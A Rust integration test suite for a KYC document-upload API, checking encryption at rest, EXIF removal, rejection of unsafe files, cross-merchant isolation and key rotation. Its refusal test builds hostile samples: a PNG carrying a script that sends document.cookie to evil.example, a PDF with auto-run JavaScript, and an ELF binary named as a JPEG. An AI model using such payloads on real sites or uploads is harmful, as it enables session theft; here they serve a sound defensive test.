use crate::helpers::{error_of, new_client, spawn_app};
use crate::kyc_support::{jpeg, picture, seller, upload_as, upload_ok};
use image::ImageFormat;
use serde_json::Value;
use std::path::PathBuf;

fn files_under(dir: PathBuf) -> Vec<PathBuf> {
    let mut found = Vec::new();
    let mut pending = vec![dir];
    while let Some(dir) = pending.pop() {
        for entry in std::fs::read_dir(dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                pending.push(path);
            } else {
                found.push(path);
            }
        }
    }
    found
}

#[tokio::test]
async fn documents_are_stored_encrypted_and_read_back_by_their_owner() {
    let app = spawn_app().await;
    let client = seller(&app, "doc-owner@example.com", "individual", "en").await;
    let original = jpeg(7);
    let response = upload_as(&app, &client, original.clone(), "front.jpg", "image/jpeg").await;
    assert_eq!(response.status(), 201);
    let info: Value = response.json().await.unwrap();
    assert_eq!(info["media_type"], "image/jpeg");
    assert_eq!(info["width_px"], 800);
    assert_eq!(info["height_px"], 600);
    assert_eq!(info["sha256"].as_str().unwrap().len(), 64);
    let id = info["id"].as_str().unwrap();

    // On disk: one object, and no run of the picture's bytes in it.
    let stored = files_under(PathBuf::from(&app.settings.data_dir).join("documents"));
    assert_eq!(stored.len(), 1, "{stored:?}");
    let raw = std::fs::read(&stored[0]).unwrap();
    let probe = &original[original.len() / 2..original.len() / 2 + 32];
    assert!(!raw.windows(probe.len()).any(|window| window == probe));
    assert!(!raw.windows(4).any(|window| window == b"JFIF"));

    let content = client
        .get(app.url(&format!("/api/v1/kyc/documents/{id}")))
        .send()
        .await
        .unwrap();
    assert_eq!(content.status(), 200);
    assert_eq!(content.headers()["content-type"], "image/jpeg");
    assert_eq!(content.headers()["cache-control"], "no-store");
    assert_eq!(content.headers()["x-content-type-options"], "nosniff");
    assert_eq!(content.bytes().await.unwrap().as_ref(), original.as_slice());

    let views = app
        .count("SELECT COUNT(*) FROM audit_log WHERE event = 'document.viewed'")
        .await;
    assert_eq!(views, 1);
    let listed: Value = client
        .get(app.url("/api/v1/kyc/documents"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(listed["documents"][0]["id"], id);
}

#[tokio::test]
async fn exif_metadata_is_removed_before_storage() {
    let app = spawn_app().await;
    let client = seller(&app, "exif@example.com", "individual", "en").await;
    let plain = jpeg(3);
    let payload = b"Exif\0\0GPSLatitude 22.54 camera-serial-XYZ";
    let length = u16::try_from(payload.len() + 2).unwrap().to_be_bytes();
    let mut with_exif = plain[..2].to_vec();
    with_exif.extend_from_slice(&[0xFF, 0xE1, length[0], length[1]]);
    with_exif.extend_from_slice(payload);
    with_exif.extend_from_slice(&plain[2..]);
    let response = upload_as(&app, &client, with_exif.clone(), "card.jpg", "image/jpeg").await;
    assert_eq!(response.status(), 201);
    let info: Value = response.json().await.unwrap();
    let id = info["id"].as_str().unwrap();
    let served = client
        .get(app.url(&format!("/api/v1/kyc/documents/{id}")))
        .send()
        .await
        .unwrap()
        .bytes()
        .await
        .unwrap();
    assert!(!served.windows(11).any(|window| window == b"GPSLatitude"));
    assert_eq!(served.as_ref(), plain.as_slice());
}

#[tokio::test]
async fn dangerous_or_broken_files_are_refused_with_clear_codes() {
    let app = spawn_app().await;
    let client = seller(&app, "refusals@example.com", "company", "zh-CN").await;
    let elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0>\0\x01\0\0\0".repeat(40);
    let full = jpeg(9);
    let truncated = full[..full.len() * 2 / 3].to_vec();
    let mut with_script = picture(ImageFormat::Png, 800, 600, 1);
    with_script
        .extend_from_slice(b"<script>fetch('https://evil.example/'+document.cookie)</script>");
    let pdf_with_js = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n".to_vec();
    let mut oversized = full.clone();
    oversized.resize(10 * 1024 * 1024 + 1, 0);
    let cases: Vec<(&str, Vec<u8>, &str, u16, &str)> = vec![
        (
            "invoice.jpg",
            elf,
            "image/jpeg",
            415,
            "document_type_not_allowed",
        ),
        (
            "huge.jpg",
            oversized,
            "image/jpeg",
            413,
            "document_too_large",
        ),
        (
            "half.jpg",
            truncated,
            "image/jpeg",
            422,
            "document_unreadable",
        ),
        (
            "card.png",
            with_script,
            "image/png",
            422,
            "document_trailing_data",
        ),
        (
            "licence.pdf",
            pdf_with_js,
            "application/pdf",
            422,
            "document_active_content",
        ),
        (
            "tiny.png",
            picture(ImageFormat::Png, 300, 200, 2),
            "image/png",
            422,
            "document_too_small",
        ),
    ];
    for (name, bytes, content_type, status, code) in cases {
        let response = upload_as(&app, &client, bytes, name, content_type).await;
        let (got_status, got_code, message) = error_of(response).await;
        assert_eq!(
            (got_status, got_code.as_str()),
            (status, code),
            "{name}: {message}"
        );
        assert!(
            !message.is_empty() && !message.is_ascii(),
            "a Chinese sentence: {message}"
        );
    }
    assert_eq!(app.count("SELECT COUNT(*) FROM kyc_documents").await, 0);
    let stored = PathBuf::from(&app.settings.data_dir).join("documents");
    assert!(files_under(stored).is_empty());
    // A multipart body without a file part.
    let empty = client
        .post(app.url("/api/v1/kyc/documents"))
        .multipart(reqwest::multipart::Form::new().text("note", "no file"))
        .send()
        .await
        .unwrap();
    assert_eq!(error_of(empty).await.1, "document_missing");
}

#[tokio::test]
async fn another_merchants_document_is_not_found() {
    let app = spawn_app().await;
    let owner = seller(&app, "tenant-a@example.com", "individual", "en").await;
    let id = upload_ok(&app, &owner, 5).await;
    let other = seller(&app, "tenant-b@example.com", "individual", "en").await;
    let response = other
        .get(app.url(&format!("/api/v1/kyc/documents/{id}")))
        .send()
        .await
        .unwrap();
    assert_eq!(error_of(response).await.0, 404);
    let anonymous = new_client()
        .get(app.url(&format!("/api/v1/kyc/documents/{id}")))
        .send()
        .await
        .unwrap();
    assert_eq!(anonymous.status(), 401);
    // Naming the other merchant's document in a form is refused too.
    let saved = crate::kyc_support::post(
        &other,
        &app,
        "/api/v1/kyc/case",
        &serde_json::json!({ "id_card_front": id }),
    )
    .await;
    let (status, code, _) = error_of(saved).await;
    assert_eq!((status, code.as_str()), (422, "unknown_document"));
    assert_eq!(
        app.count("SELECT COUNT(*) FROM audit_log WHERE event = 'document.viewed'")
            .await,
        0
    );
}

#[tokio::test]
async fn rotating_the_master_key_rewraps_data_keys_without_touching_the_files() {
    use ferry_provider::documents::{self, DocumentStore, Reader, keys};
    let app = spawn_app().await;
    let client = seller(&app, "rotate@example.com", "individual", "en").await;
    let original = jpeg(21);
    let response = upload_as(&app, &client, original.clone(), "card.jpg", "image/jpeg").await;
    let id = response.json::<Value>().await.unwrap()["id"]
        .as_str()
        .unwrap()
        .to_string();
    let stored = files_under(PathBuf::from(&app.settings.data_dir).join("documents"));
    let sealed_before = std::fs::read(&stored[0]).unwrap();

    assert_eq!(keys::add_local_key(&app.settings).unwrap(), "local-2");
    let rotated = keys::load(&app.settings).unwrap();
    assert_eq!(rotated.current_id(), "local-2");
    assert_eq!(documents::rewrap_all(&app.db, &rotated).await.unwrap(), 1);
    assert_eq!(documents::rewrap_all(&app.db, &rotated).await.unwrap(), 0);
    assert_eq!(
        app.count("SELECT COUNT(*) FROM kyc_documents WHERE key_id = 'local-2'")
            .await,
        1
    );
    assert_eq!(std::fs::read(&stored[0]).unwrap(), sealed_before);

    // The old key can go: the document opens with the new one alone.
    std::fs::remove_file(keys::local_key_dir(&app.settings).join("local-1.key")).unwrap();
    let store = DocumentStore::open(&app.settings).unwrap();
    let info = documents::find(&app.db, &id).await.unwrap().unwrap();
    let reader = Reader::Operator {
        operator_id: "opr_test",
    };
    let (_, bytes) = store
        .read(&app.db, &info, reader, "127.0.0.1", 0)
        .await
        .unwrap();
    assert_eq!(bytes, original);
}

#[tokio::test]
async fn the_upload_is_documented_as_a_multipart_file() {
    let app = spawn_app().await;
    let doc: Value = app.get("/api/openapi.json").await.json().await.unwrap();
    let body = &doc["paths"]["/api/v1/kyc/documents"]["post"]["requestBody"]["content"]["multipart/form-data"]
        ["schema"];
    assert_eq!(body["properties"]["file"]["format"], "binary", "{body}");
    assert_eq!(body["required"], serde_json::json!(["file"]));
    let rejection = &doc["paths"]["/api/v1/ops/cases/{id}/rejection"]["post"];
    let reasons =
        &rejection["requestBody"]["content"]["application/json"]["schema"]["properties"]["reasons"];
    assert_eq!(reasons["type"], "array");
    assert!(rejection["security"][0]["operator_session"].is_array());
}
